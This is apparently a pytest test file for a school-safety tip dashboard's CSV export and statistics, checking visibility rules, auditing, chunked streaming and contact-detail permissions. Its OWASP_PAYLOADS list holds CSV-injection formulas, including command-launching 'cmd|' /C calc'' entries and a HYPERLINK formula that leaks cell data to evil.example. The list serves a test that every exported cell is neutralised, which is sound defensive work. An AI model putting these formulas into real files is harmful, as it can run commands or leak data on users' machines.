"""Export and stats include only visible tips; exports are audited; contact details only
for roles that may see them."""

import csv
import io
import re
import threading

import pytest
from django.db import connection
from django.urls import reverse

from reports.models import Tip
from reports.triage import actions, export
from safeschools.models import AuditEvent


def exported(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
def test_export_has_only_visible_filtered_tips_and_is_audited(staff_client, officer_olsen, clayton_tip, kirkwood_tip):
    response = staff_client(officer_olsen).get(reverse("dashboard:export"), {"state": "new"})
    assert response["Content-Disposition"] == 'attachment; filename="tips.csv"'
    rows = exported(response)
    assert [r["reference"] for r in rows] == [clayton_tip.reference]
    assert "contact details" not in rows[0]
    assert "knife" not in str(rows).lower()  # no tip text in exports
    event = AuditEvent.objects.get(action="export")
    assert event.actor_label == "olsen" and event.detail["rows"] == 1 and event.detail["filters"] == {"state": "new"}
    assert rows[0]["agencies' parts"] == (
        "Clayton Police Department (responsible): new; Clayton School District (responsible): new"
    )


@pytest.mark.django_db
def test_a_long_export_is_read_in_chunks_each_row_once_newest_first(
    staff_client, officer_olsen, make_tip, clayton_high, kirkwood_high, monkeypatch
):
    """Chunks start below the last id of the one before: no row is lost or repeated at the
    seams. Each chunk is two queries (tips, their parts), whatever its size."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from reports.triage import export

    monkeypatch.setattr(export, "CHUNK", 2)
    mine = [make_tip(school=clayton_high).tip for _ in range(5)]
    make_tip(school=kirkwood_high)  # not Olsen's: never exported
    expected = [t.reference for t in sorted(mine, key=lambda t: t.pk, reverse=True)]
    client = staff_client(officer_olsen)
    with CaptureQueriesContext(connection) as queries:
        rows = exported(client.get(reverse("dashboard:export")))
    assert [r["reference"] for r in rows] == expected
    assert all(r["agencies' parts"].startswith("Clayton Police Department (responsible)") for r in rows)
    parts_queries = [q for q in queries.captured_queries if q["sql"].startswith('SELECT "reports_routing"."tip_id"')]
    assert len(parts_queries) == 3  # five tips in chunks of two, two and one


@pytest.mark.django_db
@pytest.mark.parametrize("count, lines_per_piece", [(5, [3, 2, 1]), (4, [3, 2])])
def test_each_chunk_of_tips_is_sent_as_one_piece_of_whole_lines(
    staff_client, officer_olsen, make_tip, clayton_high, monkeypatch, count, lines_per_piece
):
    """The file streams a chunk at a time (one ``writerows``, not one step per row), the
    header with the first chunk; every piece ends at the end of a line, and a last empty
    chunk sends nothing."""
    from reports.triage import export

    monkeypatch.setattr(export, "CHUNK", 2)
    mine = [make_tip(school=clayton_high).tip for _ in range(count)]
    response = staff_client(officer_olsen).get(reverse("dashboard:export"))
    pieces = [piece.decode() for piece in response.streaming_content]
    assert [piece.count("\r\n") for piece in pieces] == lines_per_piece
    assert all(piece.endswith("\r\n") for piece in pieces)
    assert pieces[0].startswith("reference,received (hour),")
    rows = list(csv.DictReader(io.StringIO("".join(pieces), newline="")))
    assert [r["reference"] for r in rows] == [t.reference for t in sorted(mine, key=lambda t: t.pk, reverse=True)]


@pytest.mark.django_db
def test_a_chunk_is_written_while_the_next_chunk_is_read(
    staff_client, officer_olsen, make_tip, clayton_high, monkeypatch
):
    """The writer thread writes the first chunk's lines while this thread reads the second
    chunk: each side waits for the other to have started, which only works when they run at
    the same time (one after the other, both would wait in vain)."""
    monkeypatch.setattr(export, "CHUNK", 2)
    for _ in range(3):
        make_tip(school=clayton_high)
    reading, writing = threading.Event(), threading.Event()
    seen: dict[str, object] = {}
    write_chunk = export._chunk_text

    def slow_writer(header, chunk, parts, **kwargs):
        if not writing.is_set():
            writing.set()
            seen["writer"] = threading.current_thread().name
            seen["reader started while writing"] = reading.wait(timeout=10)
        return write_chunk(header, chunk, parts, **kwargs)

    def second_chunk(execute, sql, params, many, context):
        if sql.startswith('SELECT "reports_tip"."id"') and "<" in sql and not reading.is_set():
            reading.set()
            seen["writer started before the read"] = writing.wait(timeout=10)
        return execute(sql, params, many, context)

    monkeypatch.setattr(export, "_chunk_text", slow_writer)
    client = staff_client(officer_olsen)
    with connection.execute_wrapper(second_chunk):
        rows = exported(client.get(reverse("dashboard:export")))
    assert len(rows) == 3
    assert str(seen.pop("writer")).startswith("csv-export")
    assert seen == {"reader started while writing": True, "writer started before the read": True}


@pytest.mark.django_db(transaction=True)
def test_the_writer_thread_never_opens_a_database_connection(
    staff_client, officer_olsen, make_tip, clayton_high, monkeypatch
):
    """Every query of an export runs on the request's own connection and transaction: the
    writer thread only formats values already read."""
    from django.db.backends.signals import connection_created

    monkeypatch.setattr(export, "CHUNK", 2)
    for _ in range(5):
        make_tip(school=clayton_high)
    client = staff_client(officer_olsen)
    client.get(reverse("dashboard:queue"))  # the request's own connection is open already
    opened: list[str] = []

    def count(sender, connection, **kwargs):
        opened.append(threading.current_thread().name)

    connection_created.connect(count)
    try:
        rows = exported(client.get(reverse("dashboard:export"), {"include_contact": "on"}))
    finally:
        connection_created.disconnect(count)
    assert len(rows) == 5
    assert not [name for name in opened if name.startswith("csv-export")]


@pytest.mark.django_db
def test_a_failure_while_writing_a_chunk_ends_the_export_with_that_error(
    staff_client, officer_olsen, make_tip, clayton_high, monkeypatch
):
    """The writer thread's exception reaches the response: the download breaks off, it does
    not end early as if it were complete."""
    monkeypatch.setattr(export, "CHUNK", 2)
    for _ in range(5):
        make_tip(school=clayton_high)
    calls: list[int] = []

    def part(*args):
        calls.append(1)
        if len(calls) > 4:  # the first chunk: two tips of two parts each
            raise RuntimeError("the writer broke")
        return "a part"

    monkeypatch.setattr(export, "part", part)
    response = staff_client(officer_olsen).get(reverse("dashboard:export"))
    pieces = iter(response.streaming_content)
    first = next(pieces).decode()
    assert first.startswith("reference,") and first.count("\r\n") == 3
    with pytest.raises(RuntimeError, match="the writer broke"):
        next(pieces)


@pytest.mark.django_db
def test_a_tip_re_routed_between_the_chunk_and_its_parts_keeps_its_parts(
    staff_client, officer_olsen, make_tip, clayton_high
):
    """The parts are read by the chunk's tip ids; a tip re-routed in between (here Clayton
    PD's part is taken away just before the parts are read) gets the parts it has by then,
    with its own row."""
    from django.db import connection

    from reports.models import Routing

    older, newer = (make_tip(school=clayton_high, contact_details="555-0142").tip for _ in range(2))
    moved = Routing.objects.filter(tip=newer, agency__name="Clayton Police Department")
    done: list[str] = []

    def move_away_before_the_parts_are_read(execute, sql, params, many, context):
        if sql.startswith('SELECT "reports_routing"."tip_id"') and not done:
            done.append(sql)
            moved.delete()
        return execute(sql, params, many, context)

    client = staff_client(officer_olsen)
    with connection.execute_wrapper(move_away_before_the_parts_are_read):
        rows = exported(client.get(reverse("dashboard:export"), {"include_contact": "on"}))
    assert done
    assert [r["reference"] for r in rows] == [newer.reference, older.reference]
    assert rows[0]["agencies' parts"] == "Clayton School District (responsible): new"
    assert rows[0]["contact details"] == ""  # Clayton PD is no longer responsible for it
    assert rows[1]["agencies' parts"].startswith("Clayton Police Department (responsible): new; ")
    assert rows[1]["contact details"] == "555-0142"


@pytest.mark.django_db
def test_a_tip_with_no_routing_is_exported_with_no_parts(staff_client, coordinator_cole, make_tip, clayton_high):
    """Coordinators see every tip, routed or not."""
    from reports.models import Routing

    routed, unrouted = (make_tip(school=clayton_high).tip for _ in range(2))
    Routing.objects.filter(tip=unrouted).delete()
    rows = exported(staff_client(coordinator_cole).get(reverse("dashboard:export")))
    assert [(r["reference"], r["agencies' parts"]) for r in rows] == [
        (unrouted.reference, ""),
        (routed.reference, "Clayton Police Department (responsible): new; Clayton School District (responsible): new"),
    ]


@pytest.mark.django_db
def test_contact_details_follow_the_tip_page_rule(staff_client, officer_olsen, viewer_vega, clayton_tip, client):
    """The rule of reports.triage.permissions.may_see_contact, row by row (the full table of
    roles is in test_permissions)."""
    rows = exported(staff_client(officer_olsen).get(reverse("dashboard:export"), {"include_contact": "on"}))
    assert rows[0]["contact details"] == "555-0142"
    client.logout()
    rows = exported(staff_client(viewer_vega).get(reverse("dashboard:export"), {"include_contact": "on"}))
    assert rows[0]["contact details"] == ""
    assert AuditEvent.objects.filter(action="export", detail__with_contact=True).count() == 2


OWASP_PAYLOADS = [
    "=1+2",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Call me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "＝1+2",
    "=cmd|' /C notepad'!'A1'",
    "+1-2",
    "-cmd|' /C calc'!A0",
]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_no_exported_cell_starts_a_formula(staff_client, officer_olsen, make_tip, clayton_high, categories, payload):
    """SECURITY.md 38: the OWASP CSV-injection list in a tipster's contact details, a
    school's and a category's name and a username: each cell comes out as text."""
    from reports.triage.export import FORMULA_START

    clayton_high.name = payload
    clayton_high.save()
    categories["bullying"].name = payload
    categories["bullying"].save()
    officer_olsen.username = payload[:150]
    officer_olsen.save()
    tip = make_tip(school=clayton_high, contact_details=payload).tip
    tip.routings.filter(agency__name="Clayton Police Department").update(assigned_to=officer_olsen)
    text = b"".join(
        staff_client(officer_olsen).get(reverse("dashboard:export"), {"include_contact": "on"}).streaming_content
    )
    for row in csv.reader(io.StringIO(text.decode(), newline="")):
        for cell in row:
            assert not cell.lstrip().startswith(FORMULA_START), cell
    row = exported_rows(text)[0]
    for column in ("school", "category", "contact details"):
        assert row[column] == "'" + payload
    assert f"assigned to {payload[:150]}" in row["agencies' parts"]


def exported_rows(text: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.decode(), newline="")))


def test_the_one_character_formula_check_is_the_owasp_rule():
    """``spreadsheet_cell`` looks at the first character, and past leading white space only
    when there is some; that must be the rule as written, ``text.startswith(FORMULA_START)
    or text.lstrip().startswith(FORMULA_START)``, for every kind of white space Python
    strips (not only the space), before every formula start and before ordinary text."""
    import sys

    from reports.triage.export import FORMULA_START, spreadsheet_cell

    def rule(text: str) -> str:
        return "'" + text if text.startswith(FORMULA_START) or text.lstrip().startswith(FORMULA_START) else text

    white = [chr(c) for c in range(sys.maxunicode + 1) if chr(c).isspace()]
    assert len(white) > 20 and "\u3000" in white and "\x1c" in white  # not only ASCII space
    starts = [*FORMULA_START, "a", "1", "'", " ", "", "\u200b", "=\u3000"]
    texts = [lead + start + "1+2" for lead in ["", *white, *(w + w for w in white)] for start in starts]
    texts += ["", "=", " ", "  ", "a=1", "1-2", "T-ABC2345"]
    assert [spreadsheet_cell(t) for t in texts] == [rule(t) for t in texts]
    assert spreadsheet_cell("\u3000=1+2") == "'\u3000=1+2" and spreadsheet_cell("\u200b=1") == "\u200b=1"
    for value in (None, -1, -2.5, 0, 7, True, False):
        assert spreadsheet_cell(value) == rule("" if value is None else str(value))


def test_the_typed_cells_cannot_start_a_formula():
    """The export writes the received hour, the priority and the two flags without
    ``spreadsheet_cell``: safe only while they are a datetime, a non-negative integer and
    booleans that are never empty (``str(-1)`` would start a formula)."""
    from datetime import UTC, datetime

    from django.db import models

    from reports.models import Tip
    from reports.triage.export import spreadsheet_cell

    received, priority, *flags = (
        Tip._meta.get_field(name) for name in ("received_at", "priority", "is_life_safety", "awaiting_acknowledgement")
    )
    assert type(received) is models.DateTimeField and not received.null
    assert isinstance(priority, models.PositiveSmallIntegerField) and not priority.null
    assert all(type(flag) is models.BooleanField and not flag.null for flag in flags)
    hours = [
        datetime(1, 1, 1, tzinfo=UTC),
        datetime(2026, 3, 3, 15, tzinfo=UTC),
        datetime(9999, 12, 31, 23, tzinfo=UTC),
    ]
    texts = [*(hour.isoformat() for hour in hours), *map(str, range(2**15)), str(True), str(False)]
    assert [spreadsheet_cell(text) for text in texts] == texts


def test_ordinary_cells_are_left_alone():
    from reports.triage.export import spreadsheet_cell

    assert [spreadsheet_cell(v) for v in ["T-ABC2345", 3, True, "", None, "2026-03-03T15:00:00+00:00", "a-b"]] == [
        "T-ABC2345",
        "3",
        "True",
        "",
        "",
        "2026-03-03T15:00:00+00:00",
        "a-b",
    ]


@pytest.mark.postgres
@pytest.mark.django_db
def test_the_export_reads_only_columns_of_the_tips_covering_index():
    """On PostgreSQL the export walks an officer's tips in ``reports_tip_visible_cover``
    alone (migration 0017): a tip column exported but missing from that index would send
    every chunk through the tips themselves again (bench/README.md)."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT pg_get_indexdef('reports_tip_visible_cover'::regclass)")
        definition = cursor.fetchone()[0]
    indexed = set(re.findall(r"\w+", definition.split(" USING btree ", 1)[1]))
    read = {Tip._meta.get_field(name.split("__")[0]).column for name in export.TIP_COLUMNS}
    assert read <= indexed, f"not in the covering index: {read - indexed}"


@pytest.mark.django_db
def test_stats_count_only_visible_tips(staff_client, officer_olsen, make_tip, clayton_high, kirkwood_high):
    for _ in range(3):
        make_tip(school=clayton_high)
    seen = make_tip(school=clayton_high, category="weapons").tip
    for _ in range(5):
        make_tip(school=kirkwood_high)
    actions.acknowledge(tip=seen, actor=officer_olsen, memberships=list(officer_olsen.memberships.all()))
    response = staff_client(officer_olsen).get(reverse("dashboard:stats"))
    body = response.content.decode()
    assert "received in the last 12 months: 4." in body
    assert "Kirkwood High School" not in body
    assert "1 of 1 life-safety tips were acknowledged before they escalated." in body
    assert "<svg" in body and "Bullying" in body


@pytest.mark.django_db
def test_stats_median_time_to_acknowledge(officer_olsen, make_tip, clayton_high):
    from datetime import timedelta

    from reports.triage import stats

    for hours in (1, 2, 10):
        tip = make_tip(school=clayton_high).tip
        Tip.objects.filter(pk=tip.pk).update(first_acknowledged_at=tip.received_at + timedelta(hours=hours))
    assert stats.figures(Tip.objects.visible_to(officer_olsen), None).median_hours == 2.0


@pytest.mark.django_db
def test_stats_are_counted_in_one_pass_and_served_from_the_cache_while_fresh(
    staff_client, officer_olsen, make_tip, clayton_high, settings
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from reports.triage import stats

    for _ in range(4):
        make_tip(school=clayton_high, category="weapons")
    visible = Tip.objects.visible_to(officer_olsen)
    with CaptureQueriesContext(connection) as queries:
        stats.figures(visible, [1])
    assert len(queries) == 3  # the tips' columns, finished parts, life-safety in time

    client = staff_client(officer_olsen)
    assert "received in the last 12 months: 4." in client.get(reverse("dashboard:stats")).content.decode()
    make_tip(school=clayton_high)
    body = client.get(reverse("dashboard:stats")).content.decode()
    assert "received in the last 12 months: 4." in body  # counted a moment ago
    assert "counted again at most every 5 minutes" in body
    settings.STATS_FRESH_SECONDS = 0
    assert "received in the last 12 months: 5." in client.get(reverse("dashboard:stats")).content.decode()
